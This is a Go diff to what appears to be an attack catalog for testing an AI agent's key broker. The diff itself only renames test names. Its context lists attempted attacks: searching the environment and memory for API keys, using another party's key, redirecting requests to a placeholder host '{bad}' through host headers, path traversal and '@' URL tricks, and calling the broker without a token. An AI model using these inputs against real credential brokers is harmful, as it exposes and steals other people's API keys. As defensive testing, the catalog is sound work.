@@ -65,7 +65,7 @@ func hunted() string {
 }
 
 func keyAttacks() []Attack {
-	canary := []string{"TestLabBroker", "TestLabCanary"}
+	canary := []string{"TestBroker", "TestCanary"}
 	return []Attack{
 		{ID: "K01", Title: "the key in an environment or an open file", Try: []string{"hunt -in environ {keys}"}, Won: true, Tests: canary},
 		{ID: "K02", Title: "the key in memory", Try: []string{"hunt -in memory {keys}"}, Won: true, Tests: canary},
@@ -83,7 +83,7 @@ func keyAttacks() []Attack {
 				"model -key {stranger} -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent",
 				"model -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent?key={stranger}",
 				"model -header 'X-Goog-User-Project: {stranger}' -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent"},
-			Judge: strangerArrives, Tests: []string{"TestKeysOfOthers", "TestLabStrangersKeys"}},
+			Judge: strangerArrives, Tests: []string{"TestKeysOfOthers", "TestStrangersKeys"}},
 		{ID: "K06", Title: "the key, sent to another host",
 			Try: []string{"model -host {bad} -body '{honest}' anthropic /v1/messages", "model -body '{honest}' anthropic //{bad}/v1/messages", "model -body '{honest}' anthropic /../../{bad}/v1/messages",
 				"model -header 'X-Forwarded-Host: {bad}' -body '{honest}' anthropic /v1/messages", "model -body '{honest}' anthropic /v1/messages@{bad}"},
@@ -91,7 +91,7 @@ func keyAttacks() []Attack {
 		{ID: "K07", Title: "the broker, asked without the agent's token",
 			Try: []string{"model -keyless -body '{honest}' anthropic /v1/messages", "model -key x -body '{honest}' anthropic /v1/messages",
 				"model -keyless -header 'Authorization: Bearer' -body '{honest}' anthropic /v1/messages", "model -keyless -body '{honest-gemini}' gemini /v1beta/models/gemini-x:generateContent?key="},
-			Judge: keyless, Tests: []string{"TestLabBroker", "TestWhoMayAsk"}},
+			Judge: keyless, Tests: []string{"TestBroker", "TestWhoMayAsk"}},
 	}
 }
 
